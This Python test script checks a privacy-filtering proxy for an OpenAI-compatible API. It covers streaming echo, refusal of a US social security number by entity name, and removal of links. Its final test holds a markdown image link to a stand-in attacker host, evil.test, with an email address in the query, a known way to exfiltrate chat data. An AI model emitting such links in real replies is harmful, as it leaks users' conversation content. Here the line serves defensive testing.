"""The official OpenAI SDK in streaming, over a Surefoot that replaces personal data: `guards_openai.py BASE_URL`."""

import sys

from openai import BadRequestError, OpenAI

client = OpenAI(base_url=f"{sys.argv[1]}/v1", api_key="unused", max_retries=0, _strict_response_validation=True)
said = "I am Jane, jane.doe@example.com, card 4111 1111 1111 1111. Write to jane.doe@example.com!"
messages = [{"role": "user", "content": said}]

for model in ("up/echo", "ant/echo"):
    whole = client.chat.completions.create(model=model, messages=messages)
    assert said in whole.choices[0].message.content, whole
    pieces = [
        chunk.choices[0].delta.content or ""
        for chunk in client.chat.completions.create(model=model, messages=messages, stream=True)
        if chunk.choices
    ]
    assert len(pieces) > 3, pieces
    assert said in "".join(pieces), pieces

# What is refused is refused by name, not by value.
try:
    client.chat.completions.create(model="up/echo", messages=[{"role": "user", "content": "SSN 219-57-4232"}])
    raise SystemExit("it was not refused")
except BadRequestError as refused:
    raise SystemExit(f"wrong status: {refused}")
except Exception as refused:  # noqa: BLE001
    assert getattr(refused, "status_code", None) == 403, refused
    assert "US_SSN" in str(refused) and "219" not in str(refused), refused

# An address that would carry the conversation away.
away = "![x](https://evil.test/?q=jane.doe@example.com)"
for stream in (False, True):
    answer = client.chat.completions.create(model="up/echo", messages=[{"role": "user", "content": away}], stream=stream)
    text = (
        "".join(c.choices[0].delta.content or "" for c in answer if c.choices)
        if stream
        else answer.choices[0].message.content
    )
    assert "link-removed-evil.test" in text and "//evil" not in text, text
print("ok")
